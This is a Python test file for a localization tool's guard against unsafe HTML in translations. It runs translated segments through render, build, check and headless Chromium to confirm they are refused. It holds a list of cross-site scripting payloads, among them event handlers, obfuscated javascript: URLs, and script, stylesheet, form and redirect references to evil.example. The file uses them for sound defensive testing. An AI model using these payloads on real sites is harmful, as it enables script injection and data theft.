"""The unsafe-HTML guard (l10n/publish/safety.py): its rules, hostile translations through
``render``, ``build`` and ``check``, the built pages in headless Chromium, and a property test."""

from __future__ import annotations

import json
from pathlib import Path

import html5lib
import polib
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from l10n.catalogs.pofile import read_catalog, write_catalog
from l10n.cli import main
from l10n.config import load_config
from l10n.publish.render import UnsafeTranslation, render_html
from l10n.publish.safety import guard_html, guard_markdown, url_scheme
from l10n.sources.extract import write_template

# -- the rules, on HTML fragments (an HTML source's segments) ------------------------------------


@pytest.mark.parametrize(
    ("source", "translation", "reason"),
    [
        ("Say <b>hi</b>.", "Spune <b>salut</b>.", None),
        ("Say <b>hi</b>.", "Spune <i>salut</i>.", "the translation adds the HTML tag <i> that the source does not have"),
        ("Say <b>hi</b>.", "Spune <b onclick=alert(1)>salut</b>.",
         "the translation adds the HTML event handler onclick= that the source does not have"),
        ("<p>Hi</p>", "<p onclick=alert(1) x=<>Salut</p>",
         "the translation adds the HTML event handler onclick= that the source does not have"),
        ("<p>Hi</p>", "<p x=<>Salut</p>", "the translation adds the HTML attribute x= that the source does not have"),
        ('<p title="a">Hi</p>', '<p title="a" title=b>Salut</p>',
         "the translation holds a malformed HTML tag or comment (duplicate-attribute) that the source does not have"),
        ('<p title="a">Hi</p>', '<p title="Salut',
         "the translation holds a malformed HTML tag or comment (eof-in-attribute-value-double-quote) "
         "that the source does not have"),
        ('<a href="https://epi.eu">Read</a>', '<a href="jav&#x61;script:alert(1)">Citiți</a>',
         "the translation adds a javascript: URL that the source does not have"),
        ('<a href="https://epi.eu">Read</a>', '<a href="&#x20;java&#x09;scr&#x0A;ipt:alert(1)">Citiți</a>',
         "the translation adds a javascript: URL that the source does not have"),
        ('<a href="https://epi.eu">Read</a>', '<a href="https://epi.eu/ro">Citiți</a>', None),
        ('<a href="https://epi.eu">Read</a>', '<a href="/ro/">Citiți</a>', None),
        ('<img src="a.png" alt="A">', '<img src="b.png" alt="B">',
         "the translation changes the value of the HTML attribute src= (it must be the source's)"),
        ('<img src="a.png" alt="A">', '<img alt="B" src="a.png">', None),
        ('<span style="color:red">Hi</span>', '<span style="background:url(https://evil.example/x)">Salut</span>',
         "the translation changes the value of the HTML attribute style= (it must be the source's)"),
        ('<iframe srcdoc="&lt;b&gt;x&lt;/b&gt;"></iframe>', '<iframe srcdoc="&lt;b&gt;y&lt;/b&gt;"></iframe>',
         "the translation adds the HTML tag <iframe> that the source does not have"),
        ("<style>p{}</style>Hi", "<style>p{}</style>Salut",
         "the translation adds the HTML tag <style> that the source does not have"),
        ("Hi", "Salut <!-- hidden -->", "the translation adds the HTML comment <!-- --> that the source does not have"),
        ("Hi", "<!DOCTYPE html>Salut", "the translation adds a doctype that the source does not have"),
        ("R&D in Riga", "C&D la Riga, 3 < 4 &amp; 5 > 2", None),
    ],
)
def test_guard_html_rules(source, translation, reason):
    assert guard_html(source, translation).reason == reason


@pytest.mark.parametrize(
    ("source", "translation", "rebuilt"),
    [
        ("Read <b>this</b>.", "Citiți </p></main><b>asta", "Citiți <b>asta</b>"),
        ("A <b><i>b</i></b>", "<b><i>x</b></i>", "<b><i>x</i></b>"),
        ("<abbr title='EU'>EU</abbr>", "<ABBR TITLE='UE'>UE</abbr>", '<abbr title="UE">UE</abbr>'),
        ("Line<br />break", "Rând<br/>nou<br>", "Rând<br />nou<br>"),
        ('<a href="https://epi.eu">x</a>', '<a href="https://epi.eu" >"y" & z</a>',
         '<a href="https://epi.eu">&quot;y&quot; &amp; z</a>'),
    ],
)
def test_guard_html_rebuilds_what_it_accepts(source, translation, rebuilt):
    verdict = guard_html(source, translation)
    assert verdict.safe and verdict.html == rebuilt


def test_a_refused_translation_comes_back_as_text():
    verdict = guard_html("Hi", "<script>alert(1)</script>")
    assert verdict.html == "&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.mark.parametrize(
    ("url", "scheme"),
    [("https://epi.eu", "https"), (" JaVa\tScRiPt:x", "javascript"), ("\x01data:text/html,x", "data"),
     ("/ro/page", ""), ("//evil.example/x", ""), ("#top", ""), ("a:b", "a")],
)
def test_url_scheme_as_a_browser_reads_it(url, scheme):
    assert url_scheme(url) == scheme


# -- hostile translations through the command line --------------------------------------------------

# Each payload class of the battery, and javascript: URLs written in every way a browser
# still reads as one.
PAYLOADS = {
    "details-ontoggle": "<details open ontoggle=alert(1) x=<>",
    "script-src": "<script src=https://evil.example/x.js x=<>",
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" x=<>',
    "body-onload": "<body onload=alert(1) x=<>",
    "base-href": "<base href=https://evil.example/ x=<>",
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/x.css x=<>",
    "form-action": "<form action=https://evil.example/ x=<><input type=submit></form>",
    "p-onclick": "<p onclick=alert(1) x=<>click</p>",
    "style-unterminated": "<style x=<>",
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-foreign": "<img src=https://evil.example/pixel.png>",
    "markdown-image-foreign": "![pixel](https://evil.example/pixel.png)",
    "svg-onload": "<svg onload=alert(1)>",
    "object-data": "<object data=https://evil.example/x.swf></object>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "comment-unterminated": "<!-- the rest of the page",
    "textarea-swallow": "<textarea>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "js-markdown-link": "[here](javascript:alert(1))",
    "js-markdown-upper": "[here](JAVASCRIPT:alert(1))",
    "js-markdown-angle": "[here](<javascript:alert(1)>)",
    "js-autolink": "<javascript:alert(1)>",
    "js-entity-hex": '<a href="jav&#x61;script:alert(1)">here</a>',
    "js-entity-decimal": '<a href="&#106;avascript:alert(1)">here</a>',
    "js-entity-tab": '<a href="java&#9;script:alert(1)">here</a>',
    "js-raw-tab": '<a href="java\tscript:alert(1)">here</a>',
    "js-leading-space": '<a href=" javascript:alert(1)">here</a>',
    "js-unquoted": "<a href=javascript:alert(1) x=<>here</a>",
    "vbscript": '<a href="vbscript:msgbox(1)">here</a>',
    "data-url": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">here</a>',
    "link-style-overlay": '<a href="https://epi.eu/r0" style="position:fixed;inset:0">here</a>',
}
# (source, a faithful translation): a plain segment, one with a link, one with inline HTML.
CONTEXTS = {
    "plain": ("Plain words, number {n}.", "Cuvinte simple, numărul {n}."),
    "link": ("Read [report {n}](https://epi.eu/r{n}).", "Citiți [raportul {n}](https://epi.eu/r{n})."),
    "inline-html": ("Meet us in <b>Cartagena {n}</b>.", "Ne vedem în <b>Cartagena {n}</b>."),
}
# Where the payload goes: after the translation, on a line of its own (where a browser-bound
# Markdown renderer would open an HTML block), or instead of it.
PLACEMENTS = {
    "after": "{text} {payload}",
    "own-line": "{text}\n{payload}",
    "alone": "{payload}",
}
CASES = [(p, c, w) for p in PAYLOADS for c in CONTEXTS for w in PLACEMENTS]
END = "The end of the page."
# Translations that look alarming but add nothing: they must render.
HARMLESS = {
    "code": ("Type `<script>` to start.", "Tastați `<script>start()</script>` pentru a începe."),
    "entities": ("Workshops in Riga.", "Ateliere &lt;script&gt;alert(1)&lt;/script&gt; la Riga."),
    "comparison": ("Fewer than 5 cities.", "Mai puțin de 5 orașe, 3 < 5 > 2."),
    "moved-link": ("Read [the report](https://epi.eu/report) today.", "Astăzi, [raportul](https://epi.eu/report) e gata."),
    "moved-html": ("Meet us in <b>Cartagena</b>, Spain.", "În <b>Cartagena</b>, Spania, ne vedem."),
}


def _catalog(path: Path, table: dict[str, str], template: Path | None = None) -> None:
    catalog = polib.POFile(wrapwidth=79)
    catalog.metadata = {"Content-Type": "text/plain; charset=UTF-8", "Language": "ro"}
    entries = read_catalog(template) if template else [polib.POEntry(msgid=m) for m in table]
    for source in entries:
        entry = polib.POEntry(msgid=source.msgid, msgctxt=source.msgctxt, occurrences=source.occurrences)
        entry.msgstr = table.get(source.msgid, "")
        catalog.append(entry)
    path.parent.mkdir(parents=True, exist_ok=True)
    write_catalog(path, catalog)


def _case(number: int, payload: str, context: str, placement: str) -> tuple[str, str]:
    source, faithful = (part.format(n=number) for part in CONTEXTS[context])
    return source, PLACEMENTS[placement].format(text=faithful, payload=PAYLOADS[payload])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_refuses_every_payload_in_every_context(tmp_path: Path, payload: str) -> None:
    for context in CONTEXTS:
        for placement in PLACEMENTS:
            source_text, translation = _case(1, payload, context, placement)
            source = tmp_path / "issue.md"
            source.write_text(f"# Title\n\n{source_text}\n\n{END}\n", encoding="utf-8")
            catalog = tmp_path / f"{context}-{placement}.po"
            _catalog(catalog, {source_text: translation})
            output = tmp_path / "out.html"
            result = CliRunner().invoke(main, ["render", str(source), "--catalog", str(catalog), "-o", str(output)])
            where = f"{payload} / {context} / {placement}"
            assert result.exit_code == 2, where
            assert result.output.startswith(
                f"Error: {catalog}:6: refusing to write HTML from the translation of {source_text!r}: the translation "
            ), where
            assert len(result.output.splitlines()) == 1, where
            assert not output.exists(), where


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str], CliRunner]:
    """One issue holding every case as a paragraph, its Romanian catalog, and ``build`` run once."""
    root = tmp_path_factory.mktemp("hostile")
    paragraphs, table = [], {}
    for number, (payload, context, placement) in enumerate(CASES):
        source_text, translation = _case(number, payload, context, placement)
        paragraphs.append(source_text)
        table[source_text] = translation
    for source_text, translation in HARMLESS.values():
        paragraphs.append(source_text)
        table[source_text] = translation
    (root / "source").mkdir()
    (root / "source" / "hostile.md").write_text(
        "---\ntitle: Hostile\n---\n\n# Cases\n\n" + "\n\n".join(paragraphs) + f"\n\n{END}\n", encoding="utf-8"
    )
    (root / "l10n.toml").write_text('languages = ["ro"]\nproject = "EPI"\n', encoding="utf-8")
    config = load_config(root / "l10n.toml")
    write_template(config, "hostile")
    _catalog(config.catalog_path("ro", "hostile"), table, config.template_path("hostile"))
    return root, table, CliRunner()


def _cli(root: Path, *args: str):
    return CliRunner().invoke(main, ["--config", str(root / "l10n.toml"), *args])


def test_build_refuses_every_payload_and_strict_fails(hostile_project) -> None:
    root, table, _ = hostile_project
    result = _cli(root, "build", "--strict", "-j", "1")
    assert result.exit_code == 1
    refused = [line for line in result.output.splitlines() if line.startswith("refused ")]
    assert len(refused) == len(CASES)
    assert all(line.endswith("; the source text is used instead") for line in refused)
    page = (root / "build" / "ro" / "hostile.html").read_text("utf-8")
    markdown = (root / "build" / "ro" / "hostile.md").read_text("utf-8")
    for number, case in enumerate(CASES):
        source_text, _ = _case(number, *case)
        assert source_text in markdown, case
    for payload in PAYLOADS.values():
        assert payload not in page and payload not in markdown
    for source_text, translation in HARMLESS.values():
        assert translation in markdown
    assert "<p>Tastați <code>&lt;script&gt;start()&lt;/script&gt;</code> pentru a începe.</p>" in page
    assert "<p>Astăzi, <a href=\"https://epi.eu/report\">raportul</a> e gata.</p>" in page
    assert "<p>În <b>Cartagena</b>, Spania, ne vedem.</p>" in page
    assert f"<p lang=\"en\" class=\"untranslated\">{END}</p>\n</article>" in page  # untranslated: marked as English


def test_check_flags_every_case_build_refuses(hostile_project) -> None:
    root, table, _ = hostile_project
    result = _cli(root, "check", "--format", "json", "-j", "1")
    assert result.exit_code == 1
    findings = json.loads(result.output)["findings"]
    flagged = {f["msgid"] for f in findings if f["check"] == "unsafe-html"}
    assert flagged == {_case(number, *case)[0] for number, case in enumerate(CASES)}
    assert not flagged & {source for source, _ in HARMLESS.values()}


# -- the pages in a real browser --------------------------------------------------------------------




def _visit(browser, path: Path) -> tuple[list[str], list[str], str]:
    """Dialogs opened and requests made for anything but the file itself, and the text shown."""
    page = browser.new_page()
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def route(request_route) -> None:
        url = request_route.request.url
        if url == path.as_uri():
            request_route.continue_()
        else:
            foreign.append(url)
            request_route.abort()

    page.route("**/*", route)
    page.goto(path.as_uri(), wait_until="load")
    # Let queued events (a details element's toggle, an image's error) run.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)))")
    text = page.inner_text("body")
    page.close()
    return dialogs, foreign, text


def test_the_harness_sees_a_live_payload(browser, tmp_path: Path) -> None:
    live = tmp_path / "live.html"
    live.write_text("<!DOCTYPE html><p>x</p><details open ontoggle=alert(1) x=<><img src=https://evil.example/p.png>"
                    f"<p>{END}</p>", encoding="utf-8")
    dialogs, foreign, _ = _visit(browser, live)
    assert dialogs == ["1"]
    assert foreign == ["https://evil.example/p.png"]


def test_built_pages_run_nothing_and_load_nothing(browser, hostile_project) -> None:
    root, _, _ = hostile_project
    assert _cli(root, "build", "-j", "1").exit_code == 0
    for name in ("ro/hostile.html", "en/hostile.html", "index.html"):
        dialogs, foreign, text = _visit(browser, root / "build" / name)
        assert dialogs == [] and foreign == [], name
        # The article ends with the last paragraph; after it comes only the footer of other formats.
        assert text.rstrip().removesuffix("PDF · text").rstrip().endswith(END) or name == "index.html", name


# -- property: random HTML as a translation ------------------------------------------------------------

FRAGMENTS = [
    "[^1]", "<", ">", "</", "/>", "=", '"', "'", "`", " ", "\n", "x", "b", "a", "p", "img", "script", "style",
    "details", "iframe", "svg", "math", "textarea", "onclick", "onerror", "ontoggle", "src", "href", "srcdoc",
    "style", "open", "title", "alert(1)", "javascript:", "jav&#x61;script:", "java\tscript:", "data:",
    "https://evil.example/", "&lt;", "&#60;", "&", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<b>", "</b>",
    "<a href=", "<img src=", "<script>", "</script>", "<style>", "<noscript>", "<plaintext>", "<svg>",
    "<title>", "[", "](", ")", "|", "#", "![", "*", "_", "`", "\\", "  \n", "&#x3C;", "<!DOCTYPE html>", "<base href=",
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background"}


def _page_inventory(page: str) -> tuple[set[str], set[tuple[str, str]], set[str]]:
    """Elements, attributes and URL schemes of a page's article, read by html5lib's tree builder."""
    document = html5lib.parse(page, namespaceHTMLElements=False)
    article = document.find(".//article")
    elements, attributes, schemes = set(), set(), set()
    for element in article.iter():
        tag = element.tag if isinstance(element.tag, str) else "#comment"
        elements.add(tag)
        for name, value in element.attrib.items():
            attributes.add((tag, name))
            if name in URL_ATTRIBUTES:
                schemes.add(url_scheme(value))
    return elements, attributes, schemes


# Documents with every kind of segment: the translation goes into one of their segments.
DOCUMENTS = [
    "# Title\n\n" + "\n\n".join(c[0].format(n=1) for c in CONTEXTS.values()) + f"\n\n{END}\n",
    f"## Head words\n\n| City | When |\n| --- | --- |\n| Cell words | in May |\n\n{END}\n",
    f"Noted here[^1].\n\n[^1]: Note words.\n\n{END}\n",
    f"> Quoted words\n> and more words\n\n- Item words\n  continued here\n\n{END}\n",
    f'![Alt words](a.png "Title words")\n\nSee [the site][ref].\n\n[ref]: https://epi.eu "Link title"\n\n{END}\n',
]


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(DOCUMENTS), st.integers(min_value=0, max_value=20),
       st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=24).map("".join))
def test_random_html_never_adds_an_element_attribute_or_scheme(document, which, translation):
    from l10n.sources.markdown import extract_segments

    segments = [segment for segment in extract_segments(document) if segment.text != END]
    segment = segments[which % len(segments)]
    try:
        page = render_html(document, {segment.text: translation}, lang="ro")
    except UnsafeTranslation:
        return
    elements, attributes, schemes = _page_inventory(page)
    source_elements, source_attributes, source_schemes = _page_inventory(render_html(document, {}, lang="ro"))
    assert elements <= source_elements
    assert attributes <= source_attributes
    assert schemes <= source_schemes | {""}
    assert f"<p>{END}</p>\n" in page and page.count("</article>") == 1


@settings(max_examples=200, deadline=None)
@given(st.sampled_from([c[0].format(n=1) for c in CONTEXTS.values()]),
       st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=24).map("".join))
@example("Plain words, number 1.", "_*_")  # once read as a thematic break by the splice, so never <em>
def test_check_flags_what_render_refuses(source_text, translation):
    document = f"{source_text}\n"
    try:
        render_html(document, {source_text: translation}, lang="ro")
        refused = False
    except UnsafeTranslation:
        refused = True
    flagged = not guard_markdown(source_text, translation).safe
    assert flagged == refused or (flagged and "[^" in translation)  # a note this page lacks


def test_a_translation_holding_the_page_s_marker_characters_is_text():
    source = "Plain words.\n\nMore words.\n"
    page = render_html(source, {"Plain words.": "Cuvinte \ue0001\ue001 simple."}, lang="ro")
    assert "<p>Cuvinte \ue0001\ue001 simple.</p>\n<p>More words.</p>" in page
